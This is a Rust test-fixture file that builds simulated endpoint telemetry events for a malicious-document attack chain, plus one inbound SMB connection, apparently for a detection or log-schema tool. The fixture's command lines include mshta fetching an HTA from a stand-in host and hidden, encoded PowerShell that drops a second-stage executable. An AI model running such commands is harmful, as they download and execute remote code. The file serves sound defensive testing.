//! Small hand-written scenarios in the model: fixed, readable event lists for tests that render one
//! story into every schema (the generator in `corpus` is for volume, not for exact expectations).

use crate::model::{ActorRef, Event, Kind, ParentInfo, Process};

/// 2024-05-01T10:00:00Z.
pub const SAMPLE_START_MS: i64 = 1_714_557_600_000;

/// Office macro -> `mshta https://…/invoice.hta` -> DNS + TLS to a public IP, INetCache download,
/// child `powershell -enc`, which drops `stage2.exe` into Temp; image loads of mshtml/jscript9;
/// then both end. One event of every kind, on host `WS01.corp.example.com`, starting at `start_ms`.
pub fn remote_hta_chain(start_ms: i64) -> Vec<Event> {
    let host = "WS01.corp.example.com";
    let winword = Process {
        host: host.into(),
        pid: 4312,
        guid: "{b34bc01c-3d7f-5f6a-b603-000000000900}".into(),
        image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into(),
        command_line: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\" /o \"\"".into(),
        user: "CORP\\alice".into(),
        original_file_name: "WinWord.exe".into(),
        start_ms: start_ms - 60_000,
        parent: Some(ParentInfo {
            pid: 5020,
            guid: "{b34bc01c-1a2b-5f6a-a203-000000000900}".into(),
            image: "C:\\Windows\\explorer.exe".into(),
            command_line: "C:\\Windows\\Explorer.EXE".into(),
            start_ms: start_ms - 3_600_000,
        }),
    };
    let mshta = Process {
        host: host.into(),
        pid: 7788,
        guid: "{b34bc01c-3d86-5f6a-b803-000000000900}".into(),
        image: "C:\\Windows\\System32\\mshta.exe".into(),
        command_line: "mshta.exe https://cdn-update.example.net/invoice.hta".into(),
        user: "CORP\\alice".into(),
        original_file_name: "MSHTA.EXE".into(),
        start_ms,
        parent: Some(winword.as_parent()),
    };
    let ps = Process {
        host: host.into(),
        pid: 8120,
        guid: "{b34bc01c-3d8b-5f6a-b903-000000000900}".into(),
        image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into(),
        command_line: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=".into(),
        user: "CORP\\alice".into(),
        original_file_name: "PowerShell.EXE".into(),
        start_ms: start_ms + 4_000,
        parent: Some(mshta.as_parent()),
    };
    let m: ActorRef = mshta.actor();
    let p: ActorRef = ps.actor();
    let at = |dt: i64, kind: Kind| Event { time_ms: start_ms + dt, host: host.into(), kind };
    vec![
        at(-60_000, Kind::ProcessStart(winword)),
        at(0, Kind::ProcessStart(mshta)),
        at(150, Kind::ImageLoad { actor: m.clone(), path: "C:\\Windows\\System32\\mshtml.dll".into() }),
        at(
            900,
            Kind::Dns {
                actor: m.clone(),
                query: "cdn-update.example.net".into(),
                answers: vec!["cdn-update.example.net.edge.example".into(), "203.0.113.50".into()],
            },
        ),
        at(
            1_000,
            Kind::Network {
                actor: m.clone(),
                src_ip: "10.0.5.21".into(),
                src_port: 50112,
                dst_ip: "203.0.113.50".into(),
                dst_port: 443,
                dst_hostname: Some("cdn-update.example.net".into()),
                outbound: true,
                protocol: "tcp".into(),
            },
        ),
        at(
            1_800,
            Kind::FileCreate {
                actor: m.clone(),
                path: "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\QX3B7K2M\\invoice[1].hta"
                    .into(),
            },
        ),
        at(4_000, Kind::ProcessStart(ps)),
        at(
            6_500,
            Kind::FileCreate { actor: p.clone(), path: "C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.exe".into() },
        ),
        at(9_000, Kind::ProcessEnd(p)),
        at(9_500, Kind::ProcessEnd(m)),
    ]
}

/// An inbound connection (a remote host connecting to this host's SMB service), for direction tests.
pub fn inbound_connection(start_ms: i64) -> Event {
    Event {
        time_ms: start_ms,
        host: "SRV-FS01.corp.example.com".into(),
        kind: Kind::Network {
            actor: ActorRef {
                pid: 4,
                guid: "{5d1e0a77-0001-0000-0100-000000000000}".into(),
                image: "System".into(),
                start_ms: start_ms - 86_400_000,
                command_line: String::new(),
            },
            src_ip: "10.0.8.15".into(),
            src_port: 445,
            dst_ip: "10.0.5.21".into(),
            dst_port: 50999,
            dst_hostname: Some("WS01.corp.example.com".into()),
            outbound: false,
            protocol: "tcp".into(),
        },
    }
}
